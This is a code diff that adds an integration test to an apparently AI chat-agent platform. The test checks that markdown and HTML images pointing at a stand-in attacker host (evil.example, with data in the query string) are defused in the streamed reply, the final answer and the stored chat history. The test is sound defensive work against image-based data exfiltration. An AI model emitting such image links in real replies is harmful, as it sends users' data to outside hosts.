@@ -1,5 +1,6 @@
 import { setTimeout as sleep } from 'node:timers/promises';
 import { newId } from '@app/common';
+import { EventStream } from '../support/event-stream.js';
 import { HttpClient } from '../support/http-client.js';
 import { type EverythingServer, startEverything } from '../support/mcp-everything.js';
 import { type Platform, startPlatform } from '../support/platform.js';
@@ -108,6 +109,23 @@ describe('the agent', () => {
     llm.answers(({ request }) => ({ text: `Before: ${textsOf(request).slice(1).join('|')}` }));
     const { answer } = await ask('Shorter, please.', conversation);
     expect(answer).toBe(`Before: Tell me of herons.|${stopped.answer}|Shorter, please.`);
+  });
+
+  it('shows no pictures that would carry data out while they are read: not in the stream, not in the history', async () => {
+    const evil = 'https://evil.example/p?d=the-hotel-limit';
+    llm.answers(({ results }) =>
+      results.length === 0
+        ? { text: 'Look: ![plan][p]', calls: [{ name: 'code', arguments: { code: 'return 1;' } }] }
+        : { text: `[p]: ${evil}\n\n![x](${evil}) <img src="${evil}"> ![ours](/media/charts/a.png) [link](${evil})` },
+    );
+    const reply = await ask('What is the plan?');
+    const stream = new EventStream(`${platform.baseUrl}/microservices/chat-turns/${reply.turn_id}/events/`, user);
+    await stream.ended;
+    const streamed = stream.events.map(({ event, data }) => (event === 'delta' ? data.text : '')).join('');
+    const shown = `Look: [plan][p]\n\n[p]: ${evil}\n\n[x](${evil}) &lt;img src="${evil}"> ![ours](/media/charts/a.png) [link](${evil})`;
+    expect([streamed, reply.answer]).toEqual([shown, shown]);
+    const [row] = await sql<{ answer: string }[]>('SELECT answer FROM chat_turns WHERE id = $1', [reply.turn_id]);
+    expect(row!.answer).toBe(shown);
   });
 
   it('names tools that are like one which it does not have', async () => {
